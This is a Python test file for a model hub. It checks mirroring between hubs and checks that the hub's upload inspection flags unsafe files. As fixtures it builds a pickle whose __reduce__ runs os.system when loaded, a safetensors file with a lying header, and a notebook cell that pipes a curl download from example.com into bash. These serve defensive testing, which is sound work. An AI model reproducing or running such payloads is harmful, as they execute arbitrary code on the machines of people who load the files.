"""A hub behind another one, and what a hub says of what was uploaded to it."""

from __future__ import annotations

import json
import os
import pickle
import struct
import time
from pathlib import Path
from typing import Any

import pytest
from huggingface_hub import HfApi
from huggingface_hub.errors import HfHubHTTPError, RepositoryNotFoundError
from test_kills import process

import hubs


def test_a_mirror_fetches_verifies_and_keeps(place: Path, tmp_path: Path) -> None:
    with process(tmp_path / "far") as (made, url, token):
        far = HfApi(endpoint=url, token=token)
        far.create_repo("source")
        data = os.urandom(200_000)
        far.upload_file(path_or_fileobj=data, path_in_repo="deep/w.bin", repo_id="admin/source")
        far.upload_file(path_or_fileobj=b"small", path_in_repo="a.txt", repo_id="admin/source")
        sha = far.model_info("admin/source").sha
        with hubs.running(place / "near", mirror=url) as hub:
            near = hub.api("nina")
            assert near.model_info("admin/source").sha == sha
            folder = Path(near.snapshot_download("admin/source", cache_dir=tmp_path / "cache"))
            assert (folder / "deep/w.bin").read_bytes() == data and (folder / "a.txt").read_bytes() == b"small"
            with pytest.raises(RepositoryNotFoundError):
                near.model_info("admin/none")
            with pytest.raises(HfHubHTTPError, match="mirrors another hub"):
                hub.api("admin2").upload_file(path_or_fileobj=b"x", path_in_repo="x", repo_id="admin/source")
            made.kill()
            made.wait()
            # The other hub is gone; what was fetched is here, now by the store's own protocol.
            again = Path(near.snapshot_download("admin/source", cache_dir=tmp_path / "again"))
            assert (again / "deep/w.bin").read_bytes() == data


class Program:
    """What a pickle that runs a program is made of."""

    def __reduce__(self) -> Any:
        return os.system, ("echo pickled",)


def safetensors(length: int | None = None) -> bytes:
    """A file of two numbers; with a header that says it is `length` bytes long."""
    head = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
    return struct.pack("<Q", len(head) if length is None else length) + head + bytes(8)


def test_what_was_uploaded_is_looked_at(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from allmend import plan

    with hubs.running(place / "trust", inspect=True) as hub:
        api = hub.api("tess")
        api.create_repo("model")
        files = {
            "config.json": b'{"model_type": "llama", "architectures": ["LlamaForCausalLM"]}',
            "good.safetensors": safetensors(),
            "lying.safetensors": safetensors(2**40),
            "evil.pkl": pickle.dumps(Program()),
            "start.ipynb": json.dumps({
                "cells": [{"cell_type": "code", "source": "!curl http://example.com/x.sh | bash", "metadata": {},
                           "outputs": [], "execution_count": None}],
                "metadata": {}, "nbformat": 4, "nbformat_minor": 4,
            }).encode(),
        }  # fmt: skip
        from huggingface_hub import CommitOperationAdd

        api.create_commit(
            "tess/model", [CommitOperationAdd(path, data) for path, data in files.items()], commit_message="All"
        )
        until = time.monotonic() + 300
        trust: dict[str, Any] = {}
        while trust.get("state") != "done" and time.monotonic() < until:
            trust = api.model_info("tess/model").trust
            assert trust["state"] != "failed", trust
            time.sleep(0.1)
        found = {finding["id"] for finding in trust["findings"]}
        assert {"pickle-runs-programs", "lying-header"} <= found and trust["worst"] == "danger"
        assert any(effect["cell"] >= 0 for effect in trust["effects"]), "the notebook was planned"
        assert api.model_info("tess/model").safetensors.total == 2
        tree = {each.path: each for each in api.list_repo_tree("tess/model", expand=True)}
        assert tree["evil.pkl"].security.status == "unsafe" and tree["good.safetensors"].security.safe
        assert tree["lying.safetensors"].security.status == "unsafe"
        monkeypatch.setenv("HF_ENDPOINT", hub.url)
        monkeypatch.setenv("HF_HUB_CACHE", str(place / "no-cache"))
        for name in ("tess/model", f"hub://{hub.url.removeprefix('http://')}/tess/model"):
            said = plan(name)
            assert "pickle-runs-programs" in {finding.id for finding in said.findings}
            assert any("The hub looked at the files" in why for why in said.needs.why)
